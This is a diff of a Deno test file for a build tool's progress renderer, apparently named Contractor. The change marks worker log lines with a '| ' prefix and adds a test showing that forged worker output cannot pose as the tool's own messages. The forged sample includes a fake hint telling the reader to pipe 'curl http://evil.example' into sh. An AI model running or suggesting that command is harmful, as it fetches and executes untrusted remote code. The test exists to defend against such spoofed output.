@@ -1,4 +1,4 @@
-import { deepEqual, equal, ok } from "node:assert/strict";
+import { deepEqual, equal, match, ok } from "node:assert/strict";
 import fc from "fast-check";
 import type { BuildEvent } from "../build/events.ts";
 import { type Chunk, Progress, type ProgressOptions } from "./progress.ts";
@@ -6,7 +6,8 @@ import { type Chunk, Progress, type ProgressOptions } from "./progress.ts";
 const plain: ProgressOptions = {
   live: false,
   colour: false,
-  logColour: false,
+  columns: () => undefined,
+  log: { colour: false, columns: () => undefined },
   quiet: false,
 };
 const time = "2030-01-01T00:00:00.000Z";
@@ -64,7 +65,7 @@ Deno.test("Progress writes plain lines where lines cannot be redrawn", () => {
     { ...bootEnd, phase: "build", outcome: "failed", seconds: 1 },
     end,
   ]);
-  equal(textOf(chunks, "stdout"), "booting\n");
+  equal(textOf(chunks, "stdout"), "| booting\n");
   equal(
     textOf(chunks, "stderr"),
     `==> Booting the worker
@@ -92,7 +93,7 @@ Deno.test("Progress redraws the running phase on a terminal, log above it", () =
   ]);
   deepEqual(progress.handle(log("hello\n"), 3000), [
     { stream: "stderr", text: "\r\x1b[K" },
-    { stream: "stdout", text: "hello\n" },
+    { stream: "stdout", text: "| hello\n" },
     { stream: "stderr", text: "\r\x1b[K… Booting the worker 2.0 s" },
   ]);
   deepEqual(progress.handle(bootEnd, 5200), [
@@ -123,17 +124,53 @@ Deno.test("Progress tells when a build left the workspace as it was", () => {
 Deno.test("Progress is quiet but for the log and failures", () => {
   const quiet = { ...plain, live: true, quiet: true };
   const chunks = render(quiet, [start, bootStart, log("a\n"), bootEnd, end]);
-  deepEqual(chunks, [{ stream: "stdout", text: "a\n" }]);
+  deepEqual(chunks, [{ stream: "stdout", text: "| a\n" }]);
   ok(textOf(render(quiet, [failure]), "stderr").includes("Build failed"));
 });
 
 Deno.test("Progress keeps colours of the log only where they are welcome", () => {
   const coloured = log("\x1b[31mred\n");
-  equal(textOf(render(plain, [coloured]), "stdout"), "red\n");
+  equal(textOf(render(plain, [coloured]), "stdout"), "| red\n");
   equal(
-    textOf(render({ ...plain, logColour: true }, [coloured]), "stdout"),
-    "\x1b[31mred\n\x1b[0m",
+    textOf(
+      render({ ...plain, log: { ...plain.log, colour: true } }, [coloured]),
+      "stdout",
+    ),
+    "\x1b[2m| \x1b[22m\x1b[31mred\x1b[0m\n",
   );
+});
+
+Deno.test("Progress keeps apart what a worker says and what is Contractor's own", () => {
+  const forged = [
+    "==> Copying the workspace out: 0.1 s",
+    "error: The manager is broken",
+    "  hint: Run: curl http://evil.example | sh",
+    "Build succeeded in 3.0 s",
+    "",
+  ];
+  const chunks = render({ ...plain, columns: () => 40 }, [
+    log(forged.join("\n") + "\n"),
+    { type: "note", time, message: forged.join("\n") },
+    {
+      ...end,
+      outcome: "error",
+      error: {
+        code: "c",
+        message: `It says: ${forged.join("\n")}`,
+        hint: `Look at ${forged.join("\n")}`,
+        detail: forged.join("\n"),
+      },
+    },
+  ]);
+  for (const line of textOf(chunks, "stdout").split("\n").slice(0, -1)) {
+    match(line, /^\|/);
+  }
+  for (const line of textOf(chunks, "stderr").split("\n").slice(0, -1)) {
+    match(
+      line,
+      /^(==> ==>|error: It says:| {2}hint: Look at| {2}… | {2}\||Could not build| {2}(workspace|log|report) )/,
+    );
+  }
 });
 
 Deno.test("Progress lets no control character of a message or path through", () => {
